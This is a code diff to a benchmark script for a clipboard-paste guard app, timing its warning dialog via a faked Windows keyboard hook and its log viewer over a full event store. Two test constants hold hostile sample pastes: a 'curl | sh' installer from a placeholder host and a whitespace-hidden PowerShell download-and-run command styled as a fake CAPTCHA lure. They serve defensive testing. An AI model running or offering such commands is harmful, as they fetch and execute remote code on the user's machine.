@@ -1,9 +1,11 @@
-"""Desktop UI figures: the warning up and focused after Ctrl+V, the log viewer over 100,000 events.
+"""Desktop UI figures: the warning up and focused after Ctrl+V, the log viewer at full capacity.
 
 The warning is timed twice: end to end on a real X desktop (Xvfb + openbox, the guard as a
-process, xterm in front, Ctrl+V by xdotool) and in-process from the hook thread's call to the
-dialog being shown. The viewer runs in-process on the offscreen platform over a
-store of 100,000 events built like the event-store benchmark's.
+process, xterm in front, Ctrl+V by xdotool) and in-process from the keyboard hook's message
+to the dialog being shown: the Windows backend's translation of the raw hook message (with
+a fake user32), the guard's service, and the signal across to the Qt thread. The viewer runs
+in-process on the offscreen platform over as many events as the store keeps by default
+(1,000,000), built like the event-store benchmark's.
 """
 
 from __future__ import annotations
@@ -21,17 +23,21 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
-from app.platform.base import KeyEvent, WindowInfo
+from app.config.model import Settings
+from app.platform.win32.api import VK_CONTROL
+from app.platform.win32.backend import Win32Backend
+from app.platform.win32.keymap import WM_KEYDOWN, WM_KEYUP
 from app.storage import EventStore
 from app.storage.rows import to_us
 from bench.report import Result, met, table
 from bench.store import build_big
 from tests.desktop import BIN, Desktop, desktop, wait_for
+from tests.fakes import FakeWin32Api
 
 WARNING_TARGET_MS = 200.0
 OPEN_TARGET_MS = 1000.0
 FILTER_TARGET_MS = 100.0
-EVENTS = 100_000
+EVENTS = Settings().max_events  # the store's default capacity: a full log
 ROUNDS = 15  # warnings on the real desktop
 LOCAL_ROUNDS = 30  # warnings in-process
 PAGES = 30  # pages scrolled
@@ -39,7 +45,7 @@ SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install-{n}.sh | sh"
 MALICIOUS = (
     'powershell -w h -c "iwr https://x.example/a.ps1 | iex"' + " " * 60 + "# I am not a robot"
 )
-RUN_BOX = WindowInfo("explorer.exe", "#32770", "Run")
+VK_LCONTROL, VK_V = 0xA2, 0x56  # left Ctrl as a low-level hook reports it; V
 
 
 def _ms(seconds: float) -> str:
@@ -151,7 +157,12 @@ def _pump_until(check: Callable[[], bool], timeout: float = 5.0) -> None:
 
 
 def _warning_local(tmp: Path) -> list[float]:
-    """Seconds from the hook thread's key call to the dialog shown."""
+    """Seconds from the keyboard hook's Ctrl+V message to the dialog shown.
+
+    The Windows backend translates the raw messages (WM_KEYDOWN, virtual-key codes, the
+    modifier state read from the system) on a thread of its own, as the hook thread would;
+    user32 is a fake with the Run dialog in front.
+    """
     from PySide6.QtCore import QMimeData
     from PySide6.QtGui import QClipboard, QGuiApplication
 
@@ -159,8 +170,15 @@ def _warning_local(tmp: Path) -> list[float]:
 
     qt = _qt()
     guard = GuardApp(qt, tmp / "guard-data", use_tray=False)
+    user32 = FakeWin32Api()
+    user32.focus(user32.add_window("#32770", "Run", r"C:\Windows\explorer.exe"))
+    backend = Win32Backend(user32)
+    guard.backend = backend
     guard.service.can_suppress_keys = True
-    guard.service.foreground = lambda: RUN_BOX
+    guard.service.foreground = backend.foreground_window
+    backend.start(guard.service.on_key, guard.service.on_mouse)
+    hook = user32.listener
+    assert hook is not None
     times: list[float] = []
     try:
         for n in range(LOCAL_ROUNDS):
@@ -171,12 +189,16 @@ def _warning_local(tmp: Path) -> list[float]:
             qt.processEvents()
             guard.service.process_pending()
 
-            def hook(now: float = time.monotonic()) -> None:
-                guard.service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
-                guard.service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
+            def ctrl_v() -> None:
+                hook.send(WM_KEYDOWN, VK_LCONTROL)
+                user32.held.add(VK_CONTROL)  # GetAsyncKeyState answers for either Ctrl
+                hook.send(WM_KEYDOWN, VK_V)  # swallowed: the warning takes over
+                hook.send(WM_KEYUP, VK_V)
+                user32.held.discard(VK_CONTROL)
+                hook.send(WM_KEYUP, VK_LCONTROL)
 
             begin = time.perf_counter()
-            threading.Thread(target=hook).start()
+            threading.Thread(target=ctrl_v).start()
             # visible, activation asked for (the offscreen platform activates a window on its
             # first showing only; the real desktop row above times the activation itself)
             _pump_until(guard.warning.isVisible)
@@ -185,6 +207,7 @@ def _warning_local(tmp: Path) -> list[float]:
             guard.service.process_pending()
             qt.processEvents()
     finally:
+        backend.stop()
         guard.stop()
         # the clipboard owns the QMimeData made here; freed after Python is gone, it crashes
         QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
@@ -192,7 +215,7 @@ def _warning_local(tmp: Path) -> list[float]:
 
 
 def _big_store(folder: Path) -> None:
-    """100,000 events over a year whose newest is now, so the chart's 90 days hold some."""
+    """EVENTS events over a year whose newest is now, so the chart's 90 days hold some."""
     build_big(folder, EVENTS)
     conn = sqlite3.connect(folder / "events.db", isolation_level=None)
     newest = conn.execute("SELECT max(time) FROM events").fetchone()[0]
@@ -248,13 +271,13 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
         done = time.perf_counter()
         worst_table = max(worst_table, painted - start)
         worst_all = max(worst_all, done - start)
-        shown_ms = (painted - start) * 1000
+        shown_ms, all_ms = (painted - start) * 1000, (done - start) * 1000
         rows.append(
             [
                 f"filter: {name} ({window.model.rowCount()} shown)",
-                f"{shown_ms:.0f} ms (with count and chart {_ms(done - start)})",
+                f"{all_ms:.0f} ms (table alone {shown_ms:.0f} ms)",
                 f"≤ {FILTER_TARGET_MS:.0f} ms",
-                met(shown_ms <= FILTER_TARGET_MS),
+                met(all_ms <= FILTER_TARGET_MS),
             ]
         )
     laps = []
@@ -281,8 +304,10 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
         f"{opened - begin:.1f} s and is not counted. Offscreen Qt platform, window 1180×760.",
         "A filter refills the table with its first page at once; the count and the chart of the "
         "last 90 days by level follow right after the table is painted (so they never delay "
-        "it), and are shown in brackets. Free-text search scans without an index (deleted text "
-        "must leave no trace), so a rare string costs a full scan; typing waits 300 ms first.",
+        "it). A person waits for all three, so a filter is judged on the time until the count "
+        "and the chart are drawn too; the table alone is in brackets. Free-text search goes "
+        "through the store's trigram index (see the event-store section); typing waits 300 ms "
+        "first, which is not counted.",
         f"Worst filter: table {_ms(worst_table)}, with count and chart {_ms(worst_all)}.",
     ]
     return rows, notes
@@ -334,9 +359,11 @@ def run() -> list[Result]:
                 f"front; {ROUNDS} suspicious texts pasted with `xdotool key ctrl+shift+v`, timed "
                 "from launching xdotool to `xdotool getactivewindow` naming the warning (polled "
                 "back to back, each poll a few ms), then Esc. In-process: "
-                f"{LOCAL_ROUNDS} malicious texts in warn mode; a thread calls the hook as pynput "
-                "would, and the Qt loop runs until the dialog is shown (filled, raised, activation "
-                "asked for; the offscreen platform activates a window only when first shown).",
+                f"{LOCAL_ROUNDS} malicious texts in warn mode, the Run dialog in front; a thread "
+                "plays the low-level hook's messages for Ctrl+V into the Windows backend (which "
+                "translates them and calls the guard), and the Qt loop runs until the dialog is "
+                "shown (filled, raised, activation asked for; the offscreen platform activates a "
+                "window only when first shown).",
             ],
         ),
         Result(
